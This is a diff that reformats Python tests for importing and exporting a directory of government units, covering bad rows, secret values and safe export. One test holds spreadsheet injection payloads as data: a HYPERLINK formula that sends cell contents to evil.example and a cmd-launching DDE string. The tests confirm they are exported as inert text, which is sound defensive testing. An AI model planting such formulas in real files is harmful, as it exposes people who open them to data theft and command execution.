@@ -65,10 +65,12 @@ def test_gbk_csv_from_excel_is_read(tmp_path: Path) -> None:
 
 def test_bad_rows_are_named_and_nothing_is_imported(tmp_path: Path, database_url: str) -> None:
     f = tmp_path / "bad.csv"
-    rows = [",".join(HEADERS[:7]),
-            "市民政局,,部门,,市直各部门,张三,1380000",  # mobile too short? still 7 digits: ok
-            "市财政局,,部委,,市直各部门,李四,13800000000",  # unknown kind
-            "市民政局,,部门,,市直各部门,王五,13800000001"]  # duplicate
+    rows = [
+        ",".join(HEADERS[:7]),
+        "市民政局,,部门,,市直各部门,张三,1380000",  # mobile too short? still 7 digits: ok
+        "市财政局,,部委,,市直各部门,李四,13800000000",  # unknown kind
+        "市民政局,,部门,,市直各部门,王五,13800000001",
+    ]  # duplicate
     f.write_text("\n".join(rows) + "\n", encoding="utf-8")
     r = runner.invoke(app, ["units", "import", str(f), "--jurisdiction", "中山市"])
     assert r.exit_code == 1
@@ -81,8 +83,10 @@ def test_bad_rows_are_named_and_nothing_is_imported(tmp_path: Path, database_url
 
 def test_a_secret_in_the_directory_is_refused(tmp_path: Path) -> None:
     f = tmp_path / "secret.csv"
-    f.write_text("单位名称,经办人,经办人渠道\n市民政局,张三,"
-                 "wecombot://abcdef0123456789secretkey\n", encoding="utf-8")
+    f.write_text(
+        "单位名称,经办人,经办人渠道\n市民政局,张三,wecombot://abcdef0123456789secretkey\n",
+        encoding="utf-8",
+    )
     df = read_directory(f)
     assert df.units == []
     (p,) = df.problems
@@ -123,8 +127,11 @@ def test_exports_never_write_a_live_formula(tmp_path: Path, suffix: str) -> None
     """A unit named like a formula is exported as text in both formats, and reads back."""
     from openpyxl import load_workbook
 
-    evil = ['=HYPERLINK("http://evil.example/x?d="&A1,"点击查看")', "+cmd|' /C calc'!A0",
-            "@SUM(1,2)"]
+    evil = [
+        '=HYPERLINK("http://evil.example/x?d="&A1,"点击查看")',
+        "+cmd|' /C calc'!A0",
+        "@SUM(1,2)",
+    ]
     units = [Unit(name=n, kind="department") for n in evil]
     path = tmp_path / f"e.{suffix}"
     write_directory(units, path, "测试市")
@@ -144,12 +151,21 @@ def test_exports_never_write_a_live_formula(tmp_path: Path, suffix: str) -> None
 def test_units_keep_the_directory_order_with_a_group_together() -> None:
     from plans.directory import Unit, directory_positions
 
-    units = [Unit(name="市政府办公室", groups=["市直"]), Unit(name="乐至县", groups=["区县"]),
-             Unit(name="市交通运输局", groups=["市直"]), Unit(name="临空经济区管委会"),
-             Unit(name="安岳县", groups=["区县"])]
+    units = [
+        Unit(name="市政府办公室", groups=["市直"]),
+        Unit(name="乐至县", groups=["区县"]),
+        Unit(name="市交通运输局", groups=["市直"]),
+        Unit(name="临空经济区管委会"),
+        Unit(name="安岳县", groups=["区县"]),
+    ]
     order = directory_positions(units)
     assert sorted(order, key=order.__getitem__) == [
-        "市政府办公室", "市交通运输局", "乐至县", "安岳县", "临空经济区管委会"]
+        "市政府办公室",
+        "市交通运输局",
+        "乐至县",
+        "安岳县",
+        "临空经济区管委会",
+    ]
 
 
 def test_the_jurisdiction_is_read_from_the_issuing_office() -> None:
